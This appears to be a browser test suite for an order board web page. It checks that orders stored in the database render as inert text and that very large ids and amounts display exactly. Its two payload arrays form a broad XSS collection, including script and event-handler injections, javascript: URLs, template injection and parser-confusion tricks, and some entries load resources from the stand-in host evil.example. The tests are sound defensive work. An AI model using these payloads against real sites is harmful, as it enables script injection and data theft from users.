// Rows are hostile input: whatever text an order holds is shown as text, and whatever number
// without loss.
import assert from 'node:assert/strict';
import {afterEach, beforeEach, test} from 'node:test';

import {BoardPage, insertOrder} from './support/board_page.mjs';
import {browser, ordercast, shareShop} from './support/shop.mjs';

const PAYLOADS = [
  '<script>window.owned = true</script>',
  '<img src=x onerror="window.owned = true">',
  '<svg onload="window.owned = true"><use href="#x"/></svg>',
  '<iframe srcdoc="<script>parent.owned = true</script>"></iframe>',
  '"><a href="javascript:owned = true">click</a>',
  '</td></tr></tbody></table><form action="//evil.example"><button>go</button></form>',
  '\'-alert(1)-\'',
  '{{constructor.constructor("owned = true")()}}',
  '${alert(1)}',
  '<style>body { display: none }</style>',
  'data: {"op":"delete"}\n\nevent: reset\ndata: {}\n\n',
  '\u202Egnp.exe',
];

// Each would set window.__xss, open a dialog or ask another host, if anything of it were run.
const RUN = 'window.__xss=1';
const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script/x>`,
  `<script\n>${RUN}</script\n>`,
  `<script src=//evil.example/x.js></script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</template><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"`,
  `<img src="x" onerror='${RUN}'/>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=1 href=1 onerror="${RUN}"></img>`,
  `<image src=x onerror=${RUN}>`,
  `<img src=//evil.example/pixel.gif>`,
  `<img srcset="//evil.example/pixel.gif 1x">`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe src="javascript:parent.__xss=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<iframe onload=${RUN}></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src onerror=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div style="animation-name:flash" onanimationstart=${RUN}>x</div>`,
  `<style>@import "//evil.example/x.css"; * {animation: x 1s}</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><input type=submit autofocus></form>`,
  `<a href="javascript:${RUN}" autofocus>x</a>`,
  `<a href="jav&#x09;ascript:${RUN}">x</a>`,
  `"onmouseover="${RUN}" x="`,
  `' autofocus onfocus='${RUN}`,
  `" autofocus onfocus="${RUN}" tabindex="1`,
  `javascript:${RUN}`,
  `\`\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `');${RUN};//`,
  `\u2028${RUN}\u2029`,
  `__proto__`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<x contenteditable onblur=${RUN}>lose focus</x>`,
];

let board;

shareShop({orders: 1}, {prepare: loosenRules});

// A shop with fewer rules than the demo's.
function loosenRules() {
  return ordercast.sql(`ALTER TABLE orders DROP CONSTRAINT orders_status_check,
      DROP CONSTRAINT orders_currency_check, ALTER COLUMN total TYPE numeric`);
}

beforeEach(async () => board = await BoardPage.open(browser, ordercast.url));

afterEach(() => board.close());

// An order of each text, all in one transaction, and the last one under the name `marker`.
function insertHostile(texts, marker) {
  const order = (text) => [text, text, text, text,
                           JSON.stringify([{sku: text, name: text, qty: text, [text]: text}])];
  const rows = [...texts.map(order), [marker, marker, 'paid', 'EUR', '[]']];
  const literal = (text) => `'${text.replaceAll('\'', '\'\'')}'`;
  return ordercast.sql(`INSERT INTO orders
      (merchant_id, total, customer_name, note, status, currency, items)
      VALUES ${rows.map((row) => `(1, 10, ${row.map(literal).join(', ')})`).join(', ')}`);
}

test('markup in any field of an order stays text, live and in the snapshot', async () => {
  const ids = [];
  for (const payload of PAYLOADS) {
    ids.push(await insertOrder(ordercast, {
      customer_name: payload,
      note: payload,
      status: payload,
      currency: payload,
      order_number: payload,
      items: JSON.stringify([{sku: payload, name: payload, qty: payload}]),
    }));
  }
  const inert = async () => {
    for (const [i, payload] of PAYLOADS.entries()) {
      await board.says(ids[i], {
        customer: payload,
        note: payload,
        status: payload,
        number: payload,
        items: `${payload} × ${payload}`,
        amount: `10.00 ${payload}`,
      });
    }
    assert.equal(
        await board.page
            .locator('.lanes :is(script, img, iframe, a, form, style, [onload], [onerror])')
            .count(),
        0);
    assert.equal(await board.page.evaluate(() => window.owned), undefined);
    assert.equal(await board.page.locator('#board').isVisible(), true);
  };
  await inert();
  await board.page.reload();
  await board.phase('live');
  await inert();
});

// Knows nothing of how the board is built, and so holds for any.
test('of all that attackers store in an order nothing is run or loaded', async () => {
  assert.ok(SCRIPTS.length >= 50);
  const foreign = [];
  board.page.on('request', (request) => {
    if (new URL(request.url()).origin !== new URL(ordercast.url).origin) foreign.push(request.url());
  });
  await board.page.evaluate(() => {
    window.violations = [];
    document.addEventListener(
        'securitypolicyviolation', (event) => window.violations.push(event.blockedURI));
  });
  const shown = (marker) => board.page.waitForFunction(
      (text) => document.documentElement.textContent.includes(text), marker);
  const inert = async () => {
    const found = await board.page.evaluate(() => ({
      ran: window.__xss,
      violations: window.violations ?? [],
      // Nothing that a payload asks for is an element or an attribute.
      armed: [...document.querySelectorAll('*')]
                 .filter((element) => [...element.attributes].some(
                             ({name, value}) => /^on|^srcdoc$/i.test(name) ||
                                 (/href|src|action|^data$/i.test(name) && /^\s*javascript:/i.test(value))))
                 .map((element) => element.outerHTML.slice(0, 200)),
      frames: window.length,
    }));
    assert.deepEqual(found, {ran: undefined, violations: [], armed: [], frames: 0});
    assert.deepEqual(foreign, []);
  };
  // A few at a time: a board may show no more than fit into the window.
  const AT_ONCE = 10;
  for (let begin = 0; begin < SCRIPTS.length; begin += AT_ONCE) {
    const marker = `behind-${begin}`;
    await insertHostile(SCRIPTS.slice(begin, begin + AT_ONCE), marker);
    await shown(marker);
    await inert();
  }
  await board.page.reload();
  await shown(`behind-${Math.floor((SCRIPTS.length - 1) / AT_ONCE) * AT_ONCE}`);
  await inert();
});

test('a hostile status cannot choose the picture, and counts as other', async () => {
  const id = await insertOrder(ordercast, {status: '../evil.svg#x'});
  await board.says(id, {status: '../evil.svg#x'});
  await board.isIn(id, 'other');
  assert.equal(
      await board.page.locator('[data-lane=other] .lane-head use').getAttribute('href'),
      '#icon-other');
});

test('ids beyond a double stay apart and whole', async () => {
  const ids = ['9007199254740992', '9007199254740993', '9223372036854775807'];
  for (const id of ids) await insertOrder(ordercast, {id, order_number: `No. ${id}`});
  for (const id of ids) await board.says(id, {number: `No. ${id}`});
  await ordercast.sql(`DELETE FROM orders WHERE id = 9007199254740993`);
  await board.row('9007199254740993').waitFor({state: 'detached'});
  assert.equal(await board.row('9007199254740992').count(), 1);
});

test('amounts beyond a double are shown to the last digit', async () => {
  const amounts = [
    ['0.1234567890123456789', '€0.1234567890123456789'],
    ['9007199254740993.07', '€9,007,199,254,740,993.07'],
    ['100000000000000000000000', '€100,000,000,000,000,000,000,000.00']
  ];
  for (const [total, shown] of amounts) {
    await board.says(await insertOrder(ordercast, {total}), {amount: shown});
  }
});

test('very long texts do not break the page', async () => {
  const id = await insertOrder(
      ordercast,
      {customer_name: 'x'.repeat(50_000), note: '行'.repeat(50_000), status: 'y'.repeat(5000)});
  await board.row(id).waitFor();
  const {scroll, width} = await board.page.evaluate(
      () => ({scroll: document.documentElement.scrollWidth, width: innerWidth}));
  assert.ok(scroll <= width, `${scroll} > ${width}`);
  assert.ok((await board.row(id).textContent()).length < 5000);
});
